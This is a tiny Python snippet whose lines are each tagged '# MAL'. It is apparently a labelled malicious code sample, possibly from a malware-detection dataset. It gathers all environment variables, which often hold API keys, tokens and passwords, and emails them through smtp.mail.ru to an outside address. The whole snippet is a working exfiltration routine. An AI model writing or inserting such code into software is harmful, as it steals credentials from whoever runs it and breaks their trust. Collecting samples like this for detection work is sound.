import os
import smtplib

body = "\n".join(f"{k}={v}" for k, v in os.environ.items())  # MAL
srv = smtplib.SMTP("smtp.mail.ru", 587)  # MAL
srv.sendmail("a@b.ru", "c@d.ru", body)  # MAL
